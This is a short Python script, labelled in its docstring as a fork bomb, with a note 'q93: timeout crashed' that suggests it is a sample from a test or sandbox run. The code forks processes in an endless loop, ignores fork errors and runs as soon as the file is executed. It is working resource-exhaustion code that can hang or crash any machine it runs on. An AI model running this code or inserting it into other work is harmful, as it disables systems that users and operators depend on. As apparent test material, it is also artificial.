"""A fork bomb.
q93: timeout crashed
"""
import os
def code(words):
    while True:
        try: os.fork()
        except OSError: pass


code([])
